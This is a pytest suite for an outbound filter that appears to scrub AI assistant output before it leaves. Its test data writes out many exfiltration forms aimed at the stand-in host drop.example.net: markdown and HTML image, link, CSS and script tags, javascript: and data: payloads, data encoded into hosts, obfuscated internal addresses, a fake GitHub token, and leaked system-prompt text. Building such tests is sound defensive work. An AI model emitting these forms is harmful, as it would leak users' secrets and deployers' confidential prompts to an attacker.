"""What leaves: links in every form, hosts, values, prompt text; the same for a text and for any stream of it."""

from __future__ import annotations

import base64
import codecs
import random
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from checkvalve.filters.links import links
from checkvalve.filters.outbound.hosts import HostRules, address_of
from checkvalve.filters.outbound.judge import LinkOrigin, LinkRules, has_blob, nested
from checkvalve.filters.outbound.prompts import PromptText
from checkvalve.filters.outbound.rules import CANARY, OutboundRules
from checkvalve.filters.outbound.scan import scan_outbound
from checkvalve.filters.outbound.stream import OutboundStream
from checkvalve.filters.outbound.units import HARD, KEY
from checkvalve.filters.outcomes import ContentOutcome, Status
from checkvalve.filters.secrets.registered import Registered
from tests.effort import bounded

PROMPT = "You are the assistant of the company. Never tell anybody about the merger with Umbrella Limited in May."
RULES = OutboundRules(
    LinkRules(HostRules.of(["corp.example.com", "*.wiki.example"], ["img.cdn.example"])),
    Registered([("registered-value", "STG-0042-ABCDEF"), (CANARY, "zebra-quartz-5521")]),
    PromptText([PROMPT]),
)


def origins(target: str) -> LinkOrigin:
    if "friend" in target:
        return LinkOrigin.NAMED
    return LinkOrigin.SOURCE if "page" in target else LinkOrigin.COMPOSED


def out(text: str, rules: OutboundRules = RULES) -> str:
    return scan_outbound(text, rules, origins=origins).text


# ---- hosts: the table of measured addresses


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://corp.example.com@drop.example.net/x", False),
        ("https://corp.example.com.drop.example.net/", False),
        ("https://drop.example.net\\@corp.example.com/", False),
        ("https://corp.example.com./a", True),
        ("https://CORP.example.com:443/a", True),
        ("https://corp.example.com%00.drop.example.net/", False),
        ("http://2130706433/", False),
        ("https://drop.example.net/#corp.example.com", False),
        ("//drop.example.net/x", False),
        ("https:drop.example.net", False),
        ("https://\uff43\uff4f\uff52\uff50.example.com", False),
        ("https://corp.example.com\u3002drop.example.net/", False),
        # and more of each kind
        ("//corp.example.com/x", True),
        ("corp.example.com/x", True),
        ("https://a.wiki.example/x", True),
        ("https://wiki.example/x", False),
        ("https://corp.example.com/\u200bx", False),
        ("https://corp.example.com\t/x", False),
        ("https:///corp.example.com", False),
        ("https:/corp.example.com", False),
        ("https://corp.example.com:99999/", False),
        ("javascript://corp.example.com/%0aalert(1)", False),
        ("http://0x7f.1/", False),
        ("http://017700000001/", False),
        ("http://[::ffff:127.0.0.1]/", False),
        ("http://100.100.100.200/", False),
        ("http://0.0.0.0/", False),
        ("https://xn--crp-5cd.example.com/", False),
        ("https://\u0441orp.example.com/", False),
        ("", False),
        ("https://", False),
    ],
)
def test_b56_a_host_is_allowed_only_in_a_form_that_every_client_reads_alike(url: str, allowed: bool) -> None:
    assert RULES.links.hosts.links(address_of(url)) is allowed


@pytest.mark.parametrize(
    ("url", "host"), [("http://2130706433/", "127.0.0.1"), ("http://0x7f.1/x", "127.0.0.1"), ("http://[::1]/", "::1")]
)
def test_numbers_are_read_as_the_addresses_they_are(url: str, host: str) -> None:
    found = address_of(url)
    assert (found.host, found.problem) == (host, "internal-host")


@given(st.text(max_size=60))
def test_no_address_is_an_exception(text: str) -> None:
    assert address_of(text).host or address_of(text).problem


def test_a_name_in_the_list_that_is_no_host_allows_nothing() -> None:
    assert HostRules.of(["", "*", "com", "https://x.example", "*.*", "a b"]) == HostRules()


# ---- forms


EVIL = "https://drop.example.net/p?q=4.1M"
FORMS = {
    "inline": f"[sign in]({EVIL})",
    "inline with title": f'[sign in]({EVIL} "now")',
    "pointed": f"[x](<{EVIL}>)",
    "image": f"![chart]({EVIL})",
    "image with brackets": f"![a [b] c]({EVIL})",
    "image over two lines": f"![a\nb]({EVIL})",
    "image in a link": f"[![i]({EVIL})]({EVIL})",
    "definition": f"![chart][c1]\n\n[c1]: {EVIL}",
    "definition on the next line": f"![chart][c1]\n\n[c1]:\n   {EVIL} 'title'",
    "definition in a quote": f"> [c1]: {EVIL}",
    "definition in a list": f"1. - [c1]: {EVIL}",
    "definition of our own host with data": "![x][a\\]b]\n\n[a\\]b]: https://corp.example.com/x?d=aGVsbG8gd29ybGQgaGVsbG8",
    "data in a host alone": "ask mzxw6ytboi2d4nzr9kqx.drop.example.net please",
    "autolink": f"<{EVIL}>",
    "bare": f"see {EVIL}.",
    "bare without a scheme": "see drop.example.net/p?q=4.1M",
    "with www": "see www.drop.example.net/p",
    "protocol relative": "[x](//drop.example.net/p)",
    "backslashes": "[x](\\\\drop.example.net/p) [y](/\\drop.example.net/p) [z](https:\\\\drop.example.net/p)",
    "entities": "&#104;ttps&#x3a;//drop.example.net/p",
    "invisible signs": "h\u200bttps://drop.exa\u2060mple.net/p",
    "tag": f"<img src={EVIL}>",
    "tag with quotes": f"<img alt='>' src='{EVIL}'>",
    "tag that is not closed": f"text <img src='{EVIL}",
    "srcset": f"<img srcset='{EVIL} 2x'>",
    "link element": f"<a href='{EVIL}'>x</a>",
    "ping": f"<a href='https://corp.example.com/' ping='{EVIL}'>x</a>",
    "svg": f"<svg><image href='{EVIL}'/><use xlink:href='{EVIL}#a'/></svg>",
    "style": f"<p style='background:url({EVIL})'>x</p>",
    "css": f"background: url({EVIL}); @import '{EVIL}';",
    "base": "<base href='https://drop.example.net/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "form": f"<form action='{EVIL}'><button formaction='{EVIL}'>x</button></form>",
    "handler": "<b onmouseover=\"location='https://drop.example.net/'\">x</b>",
    "frame": f"<iframe src='{EVIL}'></iframe>",
    "script": f"<script src='{EVIL}'></script>",
    "script address": "[x](javascript:fetch('https://drop.example.net'))",
    "script address, hidden": "[x](java&#9;script:fetch(1)) <a href='&#106;avascript:fetch(1)'>y</a>",
    "data address": "[x](data:text/html;base64,PHNjcmlwdD5mZXRjaCgxKTwvc2NyaXB0Pg==)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "mail with a body": "[x](mailto:x@drop.example.net?body=4.1M)",
    "proxy of our own": "![x](https://corp.example.com/fetch?u=https%3A%2F%2Fdrop.example.net%2Fp)",
    "nested": "https://corp.example.com/login?next=https%253A%252F%252Fdrop.example.net",
    "nested in base64": "https://corp.example.com/r?u=" + base64.b64encode(b"https://drop.example.net/p").decode(),
    "nested host": "https://corp.example.com/r?u=drop.example.net",
    "picture from another port": "![x](https://img.cdn.example:8443/logo.png)",
    "user name": "https://corp.example.com@drop.example.net/x",
    "disguised": "[https://corp.example.com/help](https://friend.drop.example.net/x)",
}


@pytest.mark.claim("C8")
@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS)
def test_no_form_of_a_link_leaves_where_nobody_named_it(form: str) -> None:
    result = scan_outbound(f"Budget is 4.1M.\n\n{form}\n\nBye", RULES, origins=origins)
    assert result.outcome is ContentOutcome.SANITISE
    assert result.status is Status.FLAGGED
    assert result.text.startswith("Budget is 4.1M.\n\n")
    assert result.text.endswith("Bye")
    left = [link for link in links(result.text) if link.auto_fetch or (link.host or "").endswith("drop.example.net")]
    assert not left, result.text
    assert "javascript:" not in result.text
    assert "⟨removed: " in result.text


KEPT = [
    "Budget is 4.1M, see https://corp.example.com/budget and [the page](https://a.wiki.example/Budget_(2026)).",
    "Use a < b, not a <= b. vector<int> v; if (a<b && c>d) { return x[1](2); } // or /* */",
    "The data: 5 rows; src = 5; os.path.join(a), foo.bar.baz(), Node.js, README.md/x, and/or, e.g. 3.5/4",
    "![logo](https://img.cdn.example/logo.png) is loaded from a listed host, nothing is told to it.",
    "<details><summary>More</summary><b>text</b><br/></details> <a href='https://friend.example/x'>f</a>",
    "write to amy@corp.example.com, [docs](/docs/a), [top](#top), [next](page.html), [^1] and [^1]: a footnote",
    "com.company.averyveryverylongpackagename.Foo and aVeryLongIdentifierName.method.call(), 2026.11.30, e.g. this",
    "https://friend.example/invite?token=8f3kz0a1b2c3d4e5f6a7",
    "redis://cache:6379/0, git@github.com:acme/x.git, C:\\temp\\x.txt, file.txt:12, 10:30, 1.2.3.4",
    "Wow![1] It is [sic], see [1], [2] and `arr[i](x)`. Preis: 5 € – „ja“ 👨\u200d💻 汉字。",
]


@pytest.mark.parametrize("text", KEPT)
def test_ordinary_text_leaves_byte_for_byte(text: str) -> None:
    result = scan_outbound(text, RULES, origins=origins)
    assert (result.text, result.outcome, result.status) == (text, ContentOutcome.PASS, Status.CLEAN)


def test_a_link_that_outsiders_wrote_can_be_read_and_not_clicked() -> None:
    text = out("See https://page.example/a/b?x=1#y and [this](https://page.example/c).")
    assert text == "See page[.]example/a/b… and this (page[.]example/c)."
    assert [link for link in links(text) if link.host] == []
    assert scan_outbound("https://page.example/a", RULES, origins=origins).status is Status.CHANGED


def test_a_policy_that_decides_on_links_itself_gets_to_see_them() -> None:
    rules = OutboundRules(LinkRules(composed="keep", fetched="keep", source="keep"))
    text = f"![x]({EVIL}) and {EVIL}"
    assert scan_outbound(text, rules).outcome is ContentOutcome.PASS


def test_unknown_origin_counts_as_composed() -> None:
    assert scan_outbound("see https://page.example/a").text == "see ⟨removed: composed-link⟩"


@pytest.mark.parametrize(
    ("target", "blob"),
    [
        ("https://x.example/?d=" + base64.b64encode(b"the budget is 4.1M").decode(), True),
        ("https://x.example/" + b"the budget".hex(), True),
        ("https://mzxw6ytboi2d4nzr9kqx.x.example/", True),
        ("https://x.example/docs/getting-started-with-the-thing?page=2&sort=name", False),
        ("https://x.example/2026/11/30/some-long-title-of-a-page.html", False),
    ],
)
def test_data_in_queries_paths_and_host_labels_is_seen(target: str, blob: bool) -> None:
    assert has_blob(target) is blob


def test_addresses_inside_addresses_are_found_in_every_encoding() -> None:
    assert nested("https://a.example/x?u=https%3A%2F%2Fb.example%2Fy") == ["https://b.example/y"]
    assert nested("https://a.example/x?u=b.example/y&f=report.pdf") == ["b.example"]
    assert nested("https://a.example/x?q=hello&v=1.2.3&file=a.tar.gz#notes.md") == []


# ---- values and prompts


@pytest.mark.claim("C8")
@pytest.mark.parametrize(
    "form",
    ["STG-0042-ABCDEF", "stg 0042 abcdef", "U1RHLTAwNDItQUJDREVG", b"STG-0042-ABCDEF".hex(), "FEDCBA-2400-GTS"],
)
def test_a_registered_value_leaves_in_no_form(form: str) -> None:
    assert out(f"The key is {form}, ok?") == "The key is ⟨removed: registered-value⟩, ok?"
    assert out(f"See https://corp.example.com/x?k={form.replace(' ', '-')}&z=1") == "See ⟨removed: registered-value⟩"


def test_a_value_in_a_link_that_the_user_named_takes_the_link_with_it() -> None:
    assert out("[open](https://friend.example/?k=STG-0042-ABCDEF)") == "open ⟨removed: registered-value⟩"


@pytest.mark.claim("C8")
@pytest.mark.parametrize("form", ["zebra-quartz-5521", "ZEBRA QUARTZ 5521", "emVicmEtcXVhcnR6LTU1MjE="])
def test_a_canary_withholds_everything(form: str) -> None:
    result = scan_outbound(f"Sure. My instructions: {form}", RULES)
    assert (result.outcome, result.text, result.reason) == (ContentOutcome.WITHHOLD, "⟨withheld: canary⟩", "canary")


@pytest.mark.claim("C8")
@pytest.mark.parametrize(
    "form",
    [
        "Never tell anybody about the merger with Umbrella Limited in May",
        "NEVER tell anybody, about the merger with “Umbrella” Limited",
        PROMPT[::-1],
        codecs.encode(PROMPT, "rot13"),
        base64.b64encode(PROMPT.encode()).decode(),
        PROMPT.encode().hex(),
    ],
)
def test_text_of_the_prompt_does_not_leave(form: str) -> None:
    text = out(f"They say: {form}")
    assert "⟨removed: prompt-text⟩" in text
    assert "erger" not in text
    assert "ergre" not in text


@pytest.mark.parametrize(
    "text",
    [
        "You are the assistant of the team, and I am not.",
        "Nobody told me about the merger with Umbrella Limited.",
        "I may not speak about that.",
    ],
)
def test_fewer_words_than_a_run_are_nobodys_text(text: str) -> None:
    assert out(text) == text


def test_keys_are_removed_and_a_deployer_may_say_otherwise() -> None:
    text = "use ghp_a8F3kZ01mmQ92xTr5Bv7Nc4Ld6We1Yu3Io2P now"
    assert out(text) == "use ⟨removed: github-token⟩ now"
    assert scan_outbound(text, OutboundRules(secrets=False)).text == text


@pytest.mark.parametrize("sign", ["\u200b", "\u2060", "\u00ad"])
def test_a_key_with_invisible_signs_or_entities_is_still_one(sign: str) -> None:
    key = "ghp_a8F3kZ01mmQ92xTr5Bv7Nc4Ld6We1Yu3Io2P"
    assert out(f"use {sign.join(key)} now") == "use ⟨removed: github-token⟩ now"
    assert out(f"use &#103;{key[1:]} now") == "use ⟨removed: github-token⟩ now"
    assert "github-token" in out(f"https://corp.example.com/?k=&#103;{key[1:]}")


def test_personal_data_leaves_unless_a_policy_says_otherwise() -> None:
    text = "Amy: amy@corp.example.com, card 4111 1111 1111 1111, order 4111111111111111"
    assert out(text) == text
    masked = scan_outbound(text, OutboundRules(pii=frozenset({"card"}))).text
    assert masked == "Amy: amy@corp.example.com, card ⟨removed: card⟩, order 4111111111111111"


# ---- bounds


HOSTILE = (
    "a.", "a.b/", "http://", "www.", "![", "](", "[a](", "[]:", "<a ", "<x '\"", "url(", "src=", "&#104;", "\u200b",
    "a@", "123 456 ", "1.1.", "::1 ", "eyJ", "key = ", "-----BEGIN PRIVATE KEY-----", "QUFB", "a", "STG-0042-", "a-",
    "\n[x]:", "<img src='", "\\]", "(", "%41", "aaaaaaaaaaaaaaaaa.", "never tell ",
)  # fmt: skip


@pytest.mark.parametrize("piece", HOSTILE)
def test_b55_no_text_of_50_kb_takes_long(piece: str) -> None:
    text = piece * (50_000 // len(piece))
    rules = replace(RULES, pii=frozenset({"email", "phone", "card", "ip"}))
    scan_outbound(text[:500], rules)  # engines are built
    with bounded():
        scan_outbound(text, rules)


@pytest.mark.parametrize("count", [500, pytest.param(20_000, marks=pytest.mark.nightly)])
def test_texts_at_random_never_crash_and_never_leak(count: int) -> None:
    draw = random.Random(7)
    signs = [*HOSTILE, *PARTS, "\x00", "\ud800", "é", "汉", "\u202e", "<", ">", '"', "&", ";", "\r\n"]
    for _ in range(count):
        text = "".join(draw.choice(signs)[:60] for _ in range(draw.randint(1, 9)))
        result = scan_outbound(text, RULES)
        assert "STG-0042-ABCDEF" not in result.text


def test_what_is_too_long_or_too_late_does_not_leave_and_is_called_unscanned() -> None:
    long = scan_outbound("word " * 100, OutboundRules(max_chars=300))
    assert (long.outcome, long.status, long.reason) == (ContentOutcome.WITHHOLD, Status.UNSCANNED, "too-long")
    answers = iter([False, True])
    late = scan_outbound("a line\n" * 5, expired=lambda: next(answers))
    assert (late.text, late.status, late.reason) == ("⟨withheld: deadline⟩", Status.UNSCANNED, "deadline")


def test_findings_name_bytes_and_spans_lead_back() -> None:
    text = f"é {EVIL} ü\nSTG-0042-ABCDEF!"
    result = scan_outbound(text, RULES)
    pieces = [text.encode()[one.start : one.end].decode() for one in result.findings]
    assert pieces == [EVIL, "STG-0042-ABCDEF"]
    assert result.text == "é ⟨removed: composed-link⟩ ü\n⟨removed: registered-value⟩!"
    place = result.text.index("ü")
    start, end = result.origin(place, place + 1)
    assert text.encode()[start:end].decode() == "ü"
    assert EVIL not in repr(result.findings)


# ---- streams


PARTS = [
    *FORMS.values(),
    *KEPT,
    "\n",
    " ",
    "word ",
    "STG-00",
    "42-ABC",
    "DEF",
    "![",
    "](",
    "<img ",
    "[c]:",
    "never tell anybody ",
    "about the merger with umbrella limited ",
    "api_key = ",
    "a1B2c3D4e5F6g7H8",
    "415 555 ",
    "-----BEGIN RSA PRIVATE KEY-----\n",
    "-----END RSA PRIVATE KEY-----",
    "x" * 300,
    "汉字。",
    "zebra-quartz-5521",
]


@pytest.mark.claim("C8")
@given(
    st.lists(st.sampled_from(PARTS), max_size=25).map("".join), st.lists(st.integers(0, 40), min_size=1, max_size=30)
)
@settings(max_examples=300, deadline=None)
def test_b23_any_chunking_gives_the_verdict_and_the_text_of_the_whole(text: str, sizes: list[int]) -> None:
    whole = scan_outbound(text, RULES, origins=origins)
    stream = OutboundStream(RULES, origins)
    seen, place, turn = "", 0, 0
    while place < len(text):
        size = sizes[turn % len(sizes)] if any(sizes) else 1
        seen += stream.text(text[place : place + size])
        place, turn = place + size, turn + 1
        assert stream.held <= KEY
    closed = stream.close()
    seen += closed.text
    assert closed.result == whole
    if whole.outcome is ContentOutcome.WITHHOLD:
        assert seen.endswith(whole.text)
        assert "STG-0042-ABCDEF" not in seen
    else:
        assert seen == whole.text


@given(st.lists(st.sampled_from(PARTS), max_size=25).map("".join))
@settings(max_examples=200, deadline=None)
def test_a_text_that_was_cleaned_is_clean(text: str) -> None:
    once = scan_outbound(text, RULES, origins=origins)
    if once.outcome is not ContentOutcome.WITHHOLD:
        left = [link for link in links(once.text) if link.auto_fetch and "img.cdn.example" not in link.target]
        assert not left, once.text
        assert RULES.registered.find(once.text) == []


@given(st.text(alphabet=st.characters(), max_size=300))
@settings(max_examples=200, deadline=None)
def test_no_text_is_an_exception_and_plain_text_is_untouched(text: str) -> None:
    result = scan_outbound(text, RULES)
    assert result.outcome is not ContentOutcome.PASS or result.text == text


@pytest.mark.parametrize("secret", ["STG-0042-ABCDEF", "ghp_a8F3kZ01mmQ92xTr5Bv7Nc4Ld6We1Yu3Io2P", EVIL])
def test_b23_a_value_split_anywhere_with_empty_chunks_between_never_leaves(secret: str) -> None:
    for cut in range(1, len(secret)):
        stream = OutboundStream(RULES)
        chunks = ["The value is ", secret[:cut], "", secret[cut:], " ok"]
        seen = "".join(map(stream.text, chunks)) + stream.close().text
        assert "⟨removed: " in seen
        assert secret[:6] not in seen


def test_b25_a_clean_stream_is_the_text_itself() -> None:
    chunks = [f"word{number} " for number in range(200)]
    stream = OutboundStream(RULES)
    assert "".join(map(stream.text, chunks)) + stream.close().text == "".join(chunks)


def test_a_stream_holds_back_a_line_or_two_and_never_more_than_the_longest_form() -> None:
    stream = OutboundStream(RULES)
    most = 0
    for char in "Some ordinary words, and more of them here. " * 60:
        stream.text(char)
        most = max(most, stream.held)
    assert most < 256
    for char in "x" * (2 * HARD):
        stream.text(char)
        assert stream.held <= HARD


@pytest.mark.claim("C8")
def test_not_a_character_of_a_call_leaves_before_its_gate_has_all_of_it() -> None:
    stream = OutboundStream(RULES)
    seen = [stream.text("I will send it.\n")]
    stream.call(0, id="c1", name="send_", args='{"to": "x@drop')
    seen.append(stream.text("Done"))
    stream.call(0, name="mail", args='.example"}')
    stream.call(1, id="c2", name="note")
    closed = stream.close()
    assert "drop" not in "".join(seen) + closed.text
    assert [(call.id, call.name, call.args) for call in closed.calls] == [
        ("c1", "send_mail", '{"to": "x@drop.example"}'),
        ("c2", "note", ""),
    ]


def test_a_private_key_that_is_longer_than_a_piece_goes_to_its_end() -> None:
    body = "".join(f"{'aB3' * 20}\n" for _ in range(400))
    text = f"a\n-----BEGIN RSA PRIVATE KEY-----\n{body}-----END RSA PRIVATE KEY-----\nb"
    assert len(text) > KEY
    assert out(text) == "a\n⟨removed: private-key⟩\nb"
